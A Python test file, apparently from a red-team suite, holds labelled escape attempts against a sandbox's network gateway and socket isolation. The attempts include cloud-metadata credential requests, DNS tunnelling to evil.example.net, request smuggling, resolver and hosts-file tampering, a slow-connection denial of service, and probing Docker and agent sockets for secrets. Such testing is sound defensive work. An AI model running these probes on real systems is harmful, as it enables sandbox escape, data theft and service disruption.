"""Attacks on the network and on sockets: N and U of the list."""

# mypy: ignore-errors
# ruff: noqa: PTH207, PTH208, PTH115
import array
import contextlib
import glob
import os
import socket
import threading
import time

from common import (
    GIVEN,
    address_of,
    attack,
    client_hello,
    context,
    drain,
    http,
    https,
    query,
    request,
    resolves,
    resolves_text,
    speak,
)

ALLOWED, DENIED = "docs.example.com", "denied.example.com"


@attack("N01")
def ipv4_literal(report, case):
    report.heard(https(GIVEN["allowed4"], 443, ALLOWED, case))


@attack("N02")
def ipv6_literal(report, case):
    report.heard(https(GIVEN["allowed6"], 443, ALLOWED, case))


@attack("N03")
def other_notations(report, case):
    number = int.from_bytes(socket.inet_aton(GIVEN["allowed4"]), "big")
    octets = GIVEN["allowed4"].split(".")
    for text in (str(number), hex(number), f"0{number:o}", ".".join(f"0{int(item):o}" for item in octets)):
        with report.trying(text):
            report.heard(http(text, 80, text, case))


@attack("N04")
def mapped(report, case):
    report.heard(https("::ffff:" + GIVEN["allowed4"], 443, ALLOWED, case))


@attack("N05")
def metadata(report, case):
    for address in (GIVEN["metadata4"], GIVEN["metadata6"]):
        for path in ("/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/", "/metadata/instance"):
            with report.trying(address):
                report.heard(http(address, 80, address, case, path=path))


@attack("N06")
def name_that_leads_inside(report, case):
    report.heard(https(address_of("inner.example.com"), 443, "inner.example.com", case))


@attack("N07", seconds=10)
def rebinding(report, case):
    for _ in range(3):
        with report.trying():
            report.heard(https(address_of("rebind.example.com"), 443, "rebind.example.com", case))


@attack("N08")
def nul_in_name(report, case):
    where = address_of(ALLOWED)
    for sni in (ALLOWED.encode() + b"\0." + DENIED.encode(), DENIED.encode() + b"\0" + ALLOWED.encode()):
        with report.trying():
            report.heard(speak(where, 443, client_hello(sni, case)))
    if resolves(ALLOWED.encode() + b"\0"):
        report.gained("an address for a name with NUL")


@attack("N09")
def spellings(report, case):
    homograph = "d\u043ecs.example.com"
    for name in (homograph.encode(), homograph.encode("idna"), ALLOWED.encode() + b"\xe3\x80\x82"):
        if resolves(name):
            report.gained(f"an address for {name!r}")
    for sni in (b"DENIED.example.com", ALLOWED.encode() + b"..", homograph.encode("idna")):
        with report.trying():
            report.heard(speak(address_of(ALLOWED), 443, client_hello(sni, case)))


@attack("N10")
def suffixes(report, case):
    for name in ("evil-docs.example.com", "docs.example.com.evil.example.net", "example.com"):
        if resolves(name) or resolves_text(name):
            report.gained(f"an address for {name}")
        with report.trying():
            report.heard(speak(address_of(ALLOWED), 443, client_hello(name.encode(), case)))


@attack("N11")
def below_and_above(report, case):
    for name in ("sub.docs.example.com", "a.b.docs.example.com", "*.example.com", "sibling.example.com"):
        if resolves(name) or resolves_text(name):
            report.gained(f"an address for {name}")
        with report.trying():
            report.heard(speak(address_of(ALLOWED), 443, client_hello(name.encode(), case)))


@attack("N12", "E-A6")
def foreign_resolver(report, case):
    labels = f"case-{case}-".ljust(60, "x").lower()
    for target in (GIVEN["resolver4"], GIVEN["resolver6"]):
        with report.trying(target):
            report.heard(speak(target, 53, query(f"{labels}.{'y' * 60}.evil.example.net"), kind=socket.SOCK_DGRAM))


@attack("N13")
def tunnel_by_own_resolver(report, case):
    for kind in (16, 10, 28, 33, 255, 65):  # TXT, NULL, AAAA, SRV, ANY, HTTPS
        with report.trying():
            if resolves(f"case-{case.lower()}-0123456789abcdef.evil.example.net", kind):
                report.gained(f"a record of type {kind}")


@attack("N14")
def doh(report, case):
    for name in ("dns.example.com", "cloudflare-dns.com", "dns.google"):
        with report.trying(name):
            report.heard(https(address_of(name), 443, name, case, path="/dns-query?name=x"))
        with report.trying():
            report.heard(speak(address_of(ALLOWED), 443, client_hello(name.encode(), case)))


@attack("N15")
def dns_over_streams(report, case):
    asked = query(f"case-{case.lower()}.evil.example.net")
    with report.trying("tcp"):
        report.heard(speak(GIVEN["resolver4"], 53, len(asked).to_bytes(2, "big") + asked))
    with report.trying("tls"):
        report.heard(https(GIVEN["resolver4"], 853, "dns.example.com", case))


@attack("N16")
def other_sni(report, case):
    where = address_of(ALLOWED)
    report.heard(speak(where, 443, client_hello(DENIED.encode(), case)))
    report.heard(speak(where, 443, client_hello([ALLOWED.encode(), DENIED.encode()], case)))
    with report.trying():
        report.heard(https(where, 443, DENIED, case))


@attack("N17")
def no_sni(report, case):
    where = address_of(ALLOWED)
    report.heard(speak(where, 443, client_hello(None, case)))
    report.heard(speak(where, 443, client_hello(b"cover.example.com", case, ech=True)))


@attack("N19", "B-git-ssh")
def no_tls(report, case):
    where = address_of(ALLOWED)
    for said in (b"SSH-2.0-x case=%s;\r\n", b"GET / HTTP/1.1\r\nX-Case: case=%s;\r\n\r\n", b"\x16\x03\x01case=%s;\0\0"):
        with report.trying():
            report.heard(speak(where, 443, said % case.encode()))


@attack("N20", "E-A5")
def other_port(report, case):
    for where in {address_of(ALLOWED), GIVEN["allowed4"]}:
        for port in (22, 8080, 8443, 25):
            with report.trying(f"{port}"):
                report.heard(speak(where, port, b"case=%s;\r\n" % case.encode()))


@attack("N21", "E-A10")
def datagrams(report, case):
    for target in (GIVEN["allowed4"], GIVEN["allowed6"], GIVEN["denied4"]):
        with report.trying(target):
            report.heard(speak(target, 443, b"case=%s;" % case.encode(), kind=socket.SOCK_DGRAM, seconds=0.5))


@attack("N22", "E-A11")
def raw_sockets(report, case):
    for label, args in {
        "packet": (17, socket.SOCK_RAW, 0x0300),
        "raw icmp": (socket.AF_INET, socket.SOCK_RAW, 1),
        "raw tcp": (socket.AF_INET, socket.SOCK_RAW, 6),
        "raw icmp6": (socket.AF_INET6, socket.SOCK_RAW, 58),
    }.items():
        with report.trying(label), socket.socket(*args):
            report.gained(f"a {label} socket")
    with report.trying("ping"), socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1) as sock:
        sock.settimeout(0.5)
        said = b"\x08\0\0\0\0\1\0\1" + b"case=%s;" % case.encode()
        sock.sendto(said, (GIVEN["allowed4"], 0))
        if sock.recv(100):
            report.gained("an answer to a ping")


@attack("N23")
def smuggling(report, case):
    second = request(DENIED, "/smuggled", case)
    for more in (b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", b"Transfer-Encoding: xchunked\r\n", b""):
        with report.trying():
            first = request(ALLOWED, "/", case + "-first", more=more).replace(b"Connection: close\r\n", b"")
            said = speak(address_of(ALLOWED), 80, first + b"0\r\n\r\n" + second)
            report.how(len(said))


@attack("N24")
def relay_inside(report, case):
    listener = socket.create_server(("127.0.0.1", 0))

    def pump(source, target):
        with contextlib.suppress(OSError):
            while data := source.recv(65536):
                target.sendall(data)

    def relay():
        client, _ = listener.accept()
        with client, contextlib.suppress(OSError):
            client.recv(1000)
            outside = socket.create_connection((GIVEN["denied4"], 443), timeout=1)
            client.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
            threading.Thread(target=pump, args=(client, outside), daemon=True).start()
            pump(outside, client)

    threading.Thread(target=relay, daemon=True).start()
    with socket.create_connection(listener.getsockname(), timeout=2) as sock:
        sock.sendall(b"CONNECT denied.example.com:443 HTTP/1.1\r\n\r\n")
        sock.recv(1000)
        with context().wrap_socket(sock, server_hostname=DENIED) as inner:
            inner.sendall(request(DENIED, "/", case))
            report.heard(drain(inner))


@attack("N25")
def userinfo(report, case):
    for line in (
        b"GET http://docs.example.com@denied.example.com/ HTTP/1.1",
        b"GET http://denied.example.com/ HTTP/1.1",
    ):
        with report.trying():
            http(address_of(ALLOWED), 80, ALLOWED, case, raw=line + b"\r\nHost: docs.example.com\r\n\r\n")
    if resolves("docs.example.com@denied.example.com"):
        report.gained("an address for a name with user information")


@attack("N26")
def redirect(report, case):
    said = https(address_of(ALLOWED), 443, ALLOWED, case + "-first", path="/redirect")
    report.how(said[:20])
    place = said.partition(b"Location: https://")[2].partition(b"/")[0].decode()
    report.heard(https(address_of(place), 443, place, case))


@attack("N27")
def own_resolver_settings(report, case):
    for name in [name for name in os.environ if name.lower().endswith("_proxy")]:
        del os.environ[name]
    with report.trying("resolv.conf"), open("/etc/resolv.conf", "w") as file:
        file.write(f"nameserver {GIVEN['resolver4']}\n")
    with report.trying("hosts"), open("/etc/hosts", "a") as file:
        file.write(f"{GIVEN['denied4']} denied.example.com\n")
    with report.trying("fetch"):
        report.heard(https(socket.getaddrinfo(DENIED, 443)[0][4][0], 443, DENIED, case))
    with report.trying("query"):
        asked = query(f"case-{case.lower()}.evil.example.net")
        report.heard(speak(GIVEN["resolver4"], 53, asked, kind=socket.SOCK_DGRAM))


@attack("N28")
def take_the_listener(report, case):
    where = address_of(ALLOWED)
    for options in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):
        with report.trying("bind"), socket.socket() as sock:
            for option in options:
                sock.setsockopt(socket.SOL_SOCKET, option, 1)
            sock.bind((where, 443))
            sock.listen()
            report.gained("the place of a listener")


@attack("N29")
def upload(report, case):
    report.heard(https(address_of(ALLOWED), 443, ALLOWED, case, method="PUT", path="/package", body=b"stolen"))


@attack("N30", seconds=10)
def large_upload(report, case):
    for _ in range(8):
        with report.trying():
            https(address_of("bulk.example.com"), 443, "bulk.example.com", case, method="POST", body=b"x" * (512 << 10))


@attack("N31", seconds=15)
def slow(report, case):
    where, held = address_of(ALLOWED), []
    if b"200 OK" not in https(where, 443, ALLOWED, case + "-first"):
        return
    for _ in range(270):
        with report.trying():
            sock = socket.create_connection((where, 443), timeout=1)
            sock.sendall(b"\x16")
            held.append(sock)
    report.how(f"{len(held)} connections held")
    for _ in range(12):
        with contextlib.suppress(OSError):
            if b"200 OK" in https(where, 443, ALLOWED, case + "-after"):
                return
        time.sleep(0.3)  # the gateway gives up on them after a second and a half here
    report.gained("nobody else is served any more")


@attack("N32")
def other_tasks(report, case):
    for last in range(1, 30):
        with report.trying(), contextlib.suppress(ConnectionError):
            report.heard(https(f"127.64.0.{last}", 443, "other.example.com", case, seconds=0.5))


@attack("N33")
def families(report, _):
    wanted = {"vsock": 40, "alg": 38, "tipc": 30, "bluetooth": 31, "can": 29, "xdp": 44, "rds": 21, "kcm": 41}
    for label, family in wanted.items():
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM, socket.SOCK_RAW):
            with report.trying(label), socket.socket(family, kind):
                report.gained(f"a {label} socket")
    for protocol in (2, 4, 9, 12, 15, 16, 20):
        with report.trying("netlink"), socket.socket(16, socket.SOCK_RAW, protocol):
            report.gained(f"a netlink socket of protocol {protocol}")


# --- sockets and descriptors -----------------------------------------------------------------------------------------


def unix(report, path):
    with report.trying(path if isinstance(path, str) else "abstract"), socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(1)
        sock.connect(path)
        with contextlib.suppress(OSError):
            sock.sendall(b"GET /version HTTP/1.0\r\n\r\n")
        report.heard(drain(sock))


@attack("U01", "R-245")
def abstract(report, _):
    unix(report, "\0" + GIVEN["abstract"])


@attack("U02", "B-docker", "R-10")
def engines(report, _):
    for path in GIVEN["engines"]:
        unix(report, path)


@attack("U03")
def agents_and_buses(report, _):
    for path in GIVEN["agents"]:
        unix(report, path)
    for name in ("SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DOCKER_HOST", "GPG_AGENT_INFO"):
        if name in os.environ:
            report.gained(f"{name} in the environment")
    for path in glob.glob("/run/**", recursive=True):
        if os.path.exists(path) and os.stat(path).st_mode & 0o170000 == 0o140000:  # noqa: PTH110, PTH116
            unix(report, path)


@attack("U04")
def inherited(report, _):
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd < 3:
            continue
        with report.trying(), contextlib.suppress(FileNotFoundError):
            kind = os.readlink(f"/proc/self/fd/{fd}")
            if kind.startswith("pipe:") and fd in GIVEN.get("own", []):
                continue
            if os.path.isdir(f"/proc/self/fd/{fd}"):  # noqa: PTH112
                for up in ("", "../../../../"):
                    with report.trying("beneath"):
                        report.heard(os.read(os.open(up + GIVEN["secret"][1:], os.O_RDONLY, dir_fd=fd), 1000))
                continue
            os.lseek(fd, 0, os.SEEK_SET)
            report.heard(os.read(fd, 1000))


@attack("U05")
def rights(report, _):
    for path in ("\0" + GIVEN["giver"], GIVEN["giver_path"]):
        with report.trying(), socket.socket(socket.AF_UNIX) as sock:
            sock.settimeout(1)
            sock.connect(path)
            fds = array.array("i")
            _, control, _, _ = sock.recvmsg(1, socket.CMSG_LEN(fds.itemsize))
            for _, _, data in control:
                fds.frombytes(data)
            for fd in fds:
                os.lseek(fd, 0, os.SEEK_SET)
                report.heard(os.read(fd, 1000))
